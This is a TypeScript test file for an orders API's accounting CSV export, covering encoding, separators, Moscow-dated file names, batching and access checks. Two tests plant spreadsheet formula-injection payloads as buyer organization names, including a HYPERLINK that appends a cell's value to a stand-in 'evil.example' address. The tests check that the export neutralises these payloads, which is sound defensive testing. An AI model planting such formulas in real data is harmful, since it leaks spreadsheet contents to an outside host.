import { parse } from 'csv-parse/sync';
import { beforeAll, expect, it } from 'vitest';
import { EXPORT_BATCH } from '../src/modules/orders';
import { patchClient, STEP1 } from './support/buyer';
import { describeApi } from './support/describe-api';
import {
  createOrder,
  demoAuth,
  demoPublishableAuth,
  errorOf,
  newShop,
  sampleProducts,
} from './support/test-app';

const HEADER =
  '"номер";"номер в магазине";"дата";"статус";"сумма";"возвращено";"организация";"ИНН";"банк";"выплачено";"номер платёжного поручения"';

describeApi('accounting export (CSV)', (t) => {
  beforeAll(async () => {
    t.clock.set(new Date('2026-03-10T09:30:00Z'));
  });

  const exportCsv = (query = '', headers: Record<string, string> = demoAuth) =>
    t.app.inject({ method: 'GET', url: `/api/order/orders/export.csv${query}`, headers });
  const rowsOf = (body: string) =>
    body
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean);

  it('writes UTF-8 with a BOM, `;` and decimal commas, one row per order, under the list filters', async () => {
    const plain = await createOrder(t, { products: sampleProducts, external_id: 'ERP-77' });
    const withBuyer = await createOrder(t);
    const saved = await patchClient(t, withBuyer.id, {
      ...STEP1,
      organization_name: '=HYPERLINK("http://evil"); ООО «Ромашка»',
    });
    expect(saved.statusCode, saved.body).toBe(200);
    t.clock.advance(60_000);
    const cancelled = await createOrder(t, { products: [{ name: 'Стол', price: 12345.67, quantity: 1 }] });
    expect(
      (
        await t.app.inject({
          method: 'POST',
          url: `/api/order/orders/${cancelled.id}/cancel`,
          headers: demoAuth,
          payload: {},
        })
      ).statusCode,
    ).toBe(200);

    const res = await exportCsv();
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    // Dated by Moscow's calendar day: a Russian name (RFC 5987) with an ASCII fallback (RFC 6266).
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename=orders-2026-03-10.csv; filename*=UTF-8''${encodeURIComponent('заказы-2026-03-10.csv')}`,
    );
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = rowsOf(res.body);
    expect(rows[0]).toBe(HEADER);
    expect(rows).toHaveLength(4);
    // Newest first: the cancelled order, then the two of the first minute.
    expect(rows[1]).toBe(`${cancelled.order_number};;"10.03.2026 12:31";"Заказ отменён";12345,67;0,00;;;;;`);
    expect(rows).toContain(
      `${plain.order_number};"ERP-77";"10.03.2026 12:30";"Ожидаем данные клиента";1050,60;0,00;;;;;`,
    );
    // A buyer's text that could start a formula is defused and quoted (its quotes doubled).
    expect(rows).toContain(
      `${withBuyer.order_number};;"10.03.2026 12:30";"Ожидаем данные клиента";1050,60;0,00;"'=HYPERLINK(""http://evil""); ООО «Ромашка»";"7707083893";;;`,
    );

    const filtered = rowsOf((await exportCsv('?status=cancelled')).body);
    expect(filtered).toEqual([HEADER, rows[1]]);
    const byExternal = rowsOf((await exportCsv('?external_id=ERP-77')).body);
    expect(byExternal).toHaveLength(2);
    expect(byExternal[1]).toContain(';"ERP-77";');
  });

  it('names the file by the day in Moscow, which is the next one after 21:00 UTC', async () => {
    const before = t.clock.now();
    t.clock.set(new Date('2026-03-10T21:30:00Z'));
    try {
      const res = await exportCsv();
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-disposition']).toContain('filename=orders-2026-03-11.csv;');
      expect(decodeURIComponent(String(res.headers['content-disposition']).split("UTF-8''")[1] ?? '')).toBe(
        'заказы-2026-03-11.csv',
      );
    } finally {
      t.clock.set(before);
    }
  });

  it('quotes every text cell (RFC 4180) and defuses a formula behind a comma for readers that split on `,`', async () => {
    const order = await createOrder(t, { products: sampleProducts, external_id: 'ERP "7", склад' });
    const name = 'ООО Ромашка,=HYPERLINK("http://evil.example/?"&A1)';
    const saved = await patchClient(t, order.id, { ...STEP1, organization_name: name });
    expect(saved.statusCode, saved.body).toBe(200);
    const res = await exportCsv(`?order_id=${order.order_number}`);
    const body = res.body.replace(/^\uFEFF/, '');

    // The file as it is meant to be read (`;`), by a strict RFC 4180 parser: every cell intact, the
    // formula behind the comma carries the apostrophe that makes a spreadsheet show it as text.
    const rows: string[][] = parse(body, { delimiter: ';', record_delimiter: '\r\n' });
    expect(rows).toHaveLength(2);
    const row = rows[1] ?? [];
    expect(row[0]).toBe(String(order.order_number));
    expect(row[1]).toBe('ERP "7", склад');
    expect(row[2]).toMatch(/^\d\d\.\d\d\.\d{4} \d\d:\d\d$/);
    expect(row[3]).toBe('Ожидаем данные клиента');
    expect(row.slice(4, 6)).toEqual(['1050,60', '0,00']);
    expect(row[6]).toBe('ООО Ромашка,\'=HYPERLINK("http://evil.example/?"&A1)');
    expect(row[7]).toBe('7707083893');
    // Every text cell is written quoted; numbers and amounts are not, and empty cells stay empty.
    const line = body.split('\r\n')[1] ?? '';
    expect(line).toBe(
      `${order.order_number};"ERP ""7"", склад";"${row[2]}";"Ожидаем данные клиента";1050,60;0,00;` +
        '"ООО Ромашка,\'=HYPERLINK(""http://evil.example/?""&A1)";"7707083893";;;',
    );

    // The same row read with `,` as the separator (Excel in an English locale, Python's csv): no
    // cell it makes starts with = + - @, so nothing becomes a formula.
    const misread: string[][] = parse(line, { delimiter: ',', relax_quotes: true, relax_column_count: true });
    const cells = misread.flat();
    expect(cells.length).toBeGreaterThan(1);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain('\'=HYPERLINK(""http://evil.example/?""&A1)";"7707083893";;;');
  });

  it(`walks more than one batch (${EXPORT_BATCH} rows) without losing or repeating an order`, async () => {
    const shop = await newShop(t, 'Большой магазин');
    const n = EXPORT_BATCH + 7;
    // Several orders share one creation time: the keyset must order them by id as well.
    await t.db.query(
      `INSERT INTO orders (id, shop_id, order_number, status, amount_kopecks, deadline_at, created_at, updated_at)
       SELECT gen_random_uuid(), $1, i, 'client_expected', i * 100, now(), timestamptz '2026-01-01' + (i / 3) * interval '1 minute', now()
         FROM generate_series(1, $2::int) AS i`,
      [shop.shop.id, n],
    );
    const res = await exportCsv('', shop.auth);
    const numbers = rowsOf(res.body)
      .slice(1)
      .map((r) => Number(r.split(';')[0]));
    expect(numbers).toHaveLength(n);
    expect(new Set(numbers).size).toBe(n);
  });

  it('refuses a publishable key, no key and bad filters', async () => {
    expect((await exportCsv('', demoPublishableAuth)).statusCode).toBe(403);
    expect((await exportCsv('', {})).statusCode).toBe(401);
    const bad = await exportCsv('?date_from=2026-02-30');
    expect(bad.statusCode).toBe(400);
    expect(errorOf(bad).field).toBe('date_from');
    expect((await exportCsv('?page=2')).statusCode).toBe(400);
  });
});
